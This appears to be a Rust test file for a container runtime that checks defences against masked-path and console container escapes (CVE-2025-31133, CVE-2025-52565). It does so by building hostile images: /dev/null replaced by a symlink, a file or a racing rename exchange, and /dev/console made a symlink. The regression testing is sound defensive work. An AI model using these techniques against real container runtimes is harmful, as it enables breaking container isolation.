//! Masked paths and the console, covered by what an image put there (CVE-2025-31133, CVE-2025-52565).

use crate::Outcome::{self, Broken, Held};
use crate::{escape, escape_for, link, unmounted};
use rustix::fs::{CWD, RenameFlags, renameat_with};
use serde_json::json;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};
use tare_tests::oci::{Case, Console, kernel};

/// A container whose /dev is the image's, and a path that shall be masked.
fn masked(c: &mut Case) {
    unmounted(c, &["/dev"]);
    std::fs::write(c.inside("/etc/hidden"), "hidden\n").unwrap();
    std::fs::write(c.inside("/etc/mine"), "the attacker's\n").unwrap();
    c.set("/linux/maskedPaths", json!(["/etc/hidden"]));
}

fn shown(c: &mut Case) -> Outcome {
    let out = c.args(&["/bin/cat", "/etc/hidden"]).run();
    match (out.code, out.stdout.as_str()) {
        (0, "") => Held("masked".into()),
        (0, shown) => Broken(shown.into()),
        _ => Held(out.stderr),
    }
}

#[test]
fn null_device_that_is_a_link() {
    let attack = |c: &mut Case| {
        masked(c);
        link(c, "/dev/null", "/etc/mine");
        shown(c)
    };
    escape(attack, "/dev/null", &["null-device"]);
}

#[test]
fn null_device_that_is_a_file() {
    let attack = |c: &mut Case| {
        masked(c);
        std::fs::write(c.inside("/dev/null"), "the attacker's\n").unwrap();
        shown(c)
    };
    escape(attack, "/dev/null is not the null device", &["null-device"]);
}

/// Somebody exchanges it for another file all the time: either that is noticed, or it was the device.
#[test]
fn null_device_that_is_exchanged() {
    let attack = |c: &mut Case, length: Duration| {
        masked(c);
        let (null, other) = (c.inside("/dev/null"), c.inside("/dev/other"));
        std::fs::write(&other, "the attacker's\n").unwrap();
        rustix::fs::mknodat(CWD, &null, rustix::fs::FileType::CharacterDevice, 0o666.into(), rustix::fs::makedev(1, 3))
            .unwrap();
        let stop = AtomicBool::new(false);
        std::thread::scope(|threads| {
            threads.spawn(|| {
                while !stop.load(Ordering::Relaxed) {
                    renameat_with(CWD, &null, CWD, &other, RenameFlags::EXCHANGE).unwrap();
                }
            });
            let end = Instant::now() + length;
            let mut outcome = Held(String::new());
            while Instant::now() < end && matches!(outcome, Held(_)) {
                outcome = match (shown(c), outcome) {
                    (Held(said), Held(before)) if before.contains("null device") || said == "masked" => Held(before),
                    (next, _) => next,
                };
            }
            stop.store(true, Ordering::Relaxed);
            outcome
        })
    };
    escape_for(Duration::from_secs(3), attack, "/dev/null is not the null device", &["null-device"]);
}

#[test]
fn console_that_is_a_link() {
    let attack = |c: &mut Case| {
        unmounted(c, &["/dev"]);
        std::fs::write(c.inside("/etc/target"), "").unwrap();
        link(c, "/dev/console", "/etc/target");
        std::fs::create_dir(c.inside("/dev/pts")).unwrap();
        c.set("/process/terminal", true).args(&["/bin/sleep", "1000"]);
        c.mount("/dev/pts", "devpts", "devpts", &["newinstance", "ptmxmode=0666"]);
        let console = Console::listen(&c.path("console"));
        let out = c.try_create(&["--console-socket", console.path()]);
        if out.code != 0 {
            return Held(c.output().1);
        }
        let pid = c.state()["pid"].as_i64().unwrap() as i32;
        let mounts = kernel::mounts(pid);
        match mounts.iter().find(|m| m.at == "/etc/target") {
            Some(m) => Broken(format!("{m:?}")),
            None => Held(format!("{mounts:?}")),
        }
    };
    escape(attack, "/dev/console", &["console"]);
}
